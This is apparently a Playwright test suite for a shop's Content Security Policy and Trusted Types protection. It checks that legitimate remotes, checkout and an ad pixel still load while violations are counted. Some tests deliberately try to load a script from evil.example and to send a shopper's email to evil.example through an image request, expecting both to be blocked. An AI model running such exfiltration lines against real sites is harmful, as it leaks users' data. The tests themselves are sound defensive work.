import { remotesStarted } from '../support/remotes-started.ts';
import { expect, test } from '../support/shop.ts';
import { type StorefrontDomain, storefrontDomain } from '../support/storefront-domain.ts';

test.use({ expectedMessages: [/Trusted Type|TrustedHTML|violates the following/i] });

test('a later script makes no Trusted Types policy of any name that the page’s policy knows', async ({ page }) => {
  const response = await page.goto('/faqs');
  const policy = response?.headers()['content-security-policy'] ?? '';
  const names = /trusted-types ([^;]+)/.exec(policy)?.[1]?.split(' ') ?? [];
  expect(names).toContain('shop-mf-admin-analytics');
  await remotesStarted(page);
  const results = await page.evaluate((known) => {
    interface Factory {
      createPolicy(
        name: string,
        rules: Record<string, (text: string) => string>,
      ): Record<string, (text: string) => unknown>;
    }
    const factory = (globalThis as unknown as { trustedTypes: Factory }).trustedTypes;
    const own = Object.getPrototypeOf(factory) as Factory;
    const lax = { createHTML: (text: string) => text, createScriptURL: (text: string) => text };
    const tried = (make: () => Record<string, (text: string) => unknown>): string => {
      try {
        const made = make();
        const script = document.createElement('script');
        script.src = made['createScriptURL']?.('https://evil.example/a.js') as string;
        return `loads ${script.src}`;
      } catch (error) {
        return error instanceof TypeError ? 'refused' : String(error);
      }
    };
    return known.flatMap((name) => [
      [name, tried(() => factory.createPolicy(name, lax)), tried(() => own.createPolicy.call(factory, name, lax))],
    ]);
  }, names);
  expect(results).toEqual(names.map((name) => [name, 'refused', 'refused']));
});

test('the server counts the violations of a page’s policy, by the owner of the file', async ({ page, shop }) => {
  await page.goto('/faqs');
  const counted = async () =>
    /csp_violations_total\{directive="img-src",remote="document"\} (\d+)/.exec(
      await (await fetch(shop.metrics)).text(),
    )?.[1];
  const before = Number((await counted()) ?? 0);
  await page.evaluate(() => {
    new Image().src = 'https://evil.example/pixel?email=ann@example.com';
  });
  await expect.poll(async () => Number((await counted()) ?? 0)).toBeGreaterThan(before);
  expect(shop.log).toContain('"blocked":"https://evil.example"');
  expect(shop.log).not.toContain('ann@example.com');
});

test('every remote that a shopper meets still loads its parts', async ({ page }) => {
  await page.goto('/');
  await remotesStarted(page);
  for (const path of ['/womens-activewear', '/product/bordeaux-capsule', '/cart', '/auth', '/admin/analytics']) {
    await page.goto(path);
    await remotesStarted(page);
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  }
});

test.describe('with a storefront, a checkout and an ad pixel of their own hosts', () => {
  // Every violation of the policy appears in the console, and fails the test.
  test.use({ expectedMessages: [] });

  const PIXEL = '1234567890';
  let storefront: StorefrontDomain;
  let checkout: string;

  test.beforeAll(async ({ shop }) => {
    // The same server as the backend's, under a name that only the checkout has.
    checkout = shop.sandbox.replace('localhost', '127.0.0.1');
    storefront = await storefrontDomain(shop.sandbox, checkout);
    const changes = { STOREFRONT_DOMAIN: storefront.origin, CHECKOUT_ORIGIN: checkout, META_PIXEL_ID: PIXEL };
    await shop.restartShop({ forgetPages: true, changes });
  });

  test.afterAll(async ({ shop }) => {
    const changes = { STOREFRONT_DOMAIN: '', CHECKOUT_ORIGIN: '', META_PIXEL_ID: '' };
    await shop.restartShop({ forgetPages: true, changes });
    storefront.close();
  });

  test('without script an order is completed at a second host, and the policy refuses nothing', async ({
    browser,
    shop,
  }) => {
    const context = await browser.newContext({ javaScriptEnabled: false });
    const page = await context.newPage();
    const refused: string[] = [];
    page.on('console', (message) => {
      if (/Content Security Policy|violates/i.test(message.text())) refused.push(message.text());
    });
    await page.goto(`${shop.origin}/product/bordeaux-capsule?size=S&piece.oxblood-ankle-boots=8`);
    await page
      .getByRole('button', { name: /^Add to cart/ })
      .first()
      .click();
    await expect(page).toHaveURL(`${shop.origin}/cart`);
    await page.getByRole('button', { name: 'Checkout' }).click();
    await expect(page).toHaveURL(new RegExp(`^${checkout}/checkout/cn/`));
    expect(storefront.ledOn).toHaveLength(1);
    await page.getByLabel(/email/i).first().fill('ada@example.com');
    await page.getByRole('button', { name: 'Complete order' }).click();
    await expect(page.getByRole('heading', { level: 1 })).toContainText('is complete');
    expect(refused).toEqual([]);
    await context.close();
  });

  test('the ad pixel loads its further scripts and its picture, and the policy refuses nothing', async ({ page }) => {
    const scripts: Readonly<Record<string, string>> = {
      '/en_US/fbevents.js': `const next = document.createElement('script');
        next.src = 'https://connect.facebook.net/signals/config/${PIXEL}?v=2.9';
        document.head.append(next);`,
      [`/signals/config/${PIXEL}`]: `new Image().src = 'https://www.facebook.com/tr?id=${PIXEL}&ev=PageView';`,
    };
    await page.route('https://connect.facebook.net/**', (route) =>
      route.fulfill({
        contentType: 'text/javascript',
        headers: { 'access-control-allow-origin': '*' },
        body: scripts[new URL(route.request().url()).pathname] ?? '',
      }),
    );
    await page.route('https://www.facebook.com/**', (route) => route.fulfill({ status: 204, body: '' }));
    const seen = page.waitForRequest(/^https:\/\/www\.facebook\.com\/tr\?id=1234567890/);
    await page.goto('/');
    await seen;
    await remotesStarted(page);
  });

  test('browsers have reported no violation meanwhile, except one that is made here', async ({ browser, shop }) => {
    const context = await browser.newContext();
    await context.route(/facebook/, (route) => route.abort());
    const page = await context.newPage();
    await page.goto(`${shop.origin}/faqs`);
    await page.evaluate(() => {
      new Image().src = 'https://evil.example/pixel';
    });
    const counted = async () =>
      (await (await fetch(shop.metrics)).text()).split('\n').filter((line) => line.startsWith('csp_violations_total{'));
    await expect.poll(counted).toEqual(['csp_violations_total{directive="img-src",remote="document"} 1']);
    await context.close();
  });
});
